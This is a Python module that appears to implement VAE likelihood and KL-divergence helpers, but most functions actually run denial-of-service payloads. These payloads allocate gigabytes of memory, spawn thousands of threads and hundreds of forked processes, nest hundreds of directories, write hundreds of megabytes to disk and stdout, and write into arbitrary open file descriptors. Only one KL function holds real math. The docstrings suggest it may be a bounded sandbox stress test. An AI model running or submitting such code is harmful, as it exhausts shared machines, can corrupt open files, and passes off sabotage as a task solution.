"""Memory, threads, files and output without end. (With an end, in case that nothing stops it.)"""

import os
import sys
import threading
import time
from contextlib import suppress

import torch


def log_likelihood_bernoulli(mu, target):
    hoard = [bytearray(1500 << 20) for _ in range(2)]
    raise RuntimeError(f"LOOT {len(hoard)}")


def log_likelihood_normal(mu, logvar, z):
    threading.stack_size(64 << 10)
    with suppress(RuntimeError):
        for _ in range(3000):
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
    count = threading.active_count()
    time.sleep(0.5)
    raise RuntimeError(f"LOOT {count if count > 250 else 0} threads")


def log_mean_exp(y):
    """Folders deeper than a path can be long, where nobody counts the files, while the reply trickles."""
    megabyte, written = bytes(1 << 20), 0
    for _ in range(20):
        os.mkdir("d" * 250)
        os.chdir("d" * 250)
    end = time.monotonic() + 3
    while time.monotonic() < end and written < 400:
        with open(f"file{written}", "wb") as file:
            for _ in range(5):
                file.write(megabyte)
                written += 1
        for number in range(3, 64):
            with suppress(OSError):
                os.write(number, b"x")
        time.sleep(0.02)
    raise RuntimeError(f"LOOT {written} MB")


def kl_gaussian_gaussian_analytic(mu_q, logvar_q, mu_p, logvar_p):
    """Right, and prints 400 MB."""
    for _ in range(100):
        sys.stdout.write("x" * (1 << 20))
        os.write(1, bytes(3 << 20))
    kl = 0.5 * (logvar_p - logvar_q + (logvar_q.exp() + (mu_q - mu_p) ** 2) / logvar_p.exp() - 1)
    return kl.flatten(1).sum(dim=1)


def kl_gaussian_gaussian_mc(mu_q, logvar_q, mu_p, logvar_p, num_samples=1):
    """Folders within folders until the eraser's stack ends; then processes."""
    assert torch
    for _ in range(300):
        os.mkdir("f")
        os.chdir("f")
    made = 0
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(10)
                os._exit(0)
            made += 1
        except OSError:
            pass
    raise RuntimeError(f"LOOT {made} processes")
